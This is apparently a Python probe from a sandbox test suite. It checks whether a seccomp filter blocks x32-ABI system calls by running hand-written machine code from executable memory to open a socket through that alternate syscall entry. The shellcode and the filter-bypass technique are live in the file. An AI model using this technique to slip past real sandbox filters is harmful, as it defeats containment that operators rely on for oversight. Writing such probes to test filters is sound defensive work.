"""Enters the kernel by the door for programs with short pointers (x32), where 2**30 is added to each number.

Aims at: that the filter (seccomp) refuses the numbers of x32.
Must not: have a socket, or any call that the filter refuses at the other door.
Verdict: reply, crashed, killed
Shown in: nowhere: most kernels are built without that door
"""

import ctypes
import mmap
import os

# mov eax, 0x40000029; mov edi, 2; mov esi, 1; xor edx, edx; syscall; ret
SOCKET = bytes.fromhex("b829000040 bf02000000 be01000000 31d2 0f05 c3")


def attack(lure):
    if os.uname().machine != "x86_64":
        return []  # that door is of this processor only
    try:
        descriptor = call(SOCKET)
    except OSError:
        return []
    return [f"has a socket: {descriptor}"] if descriptor >= 0 else []


def call(code):
    """Runs machine code that was written into memory of our own; `eax` is its answer."""
    memory = mmap.mmap(-1, mmap.PAGESIZE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
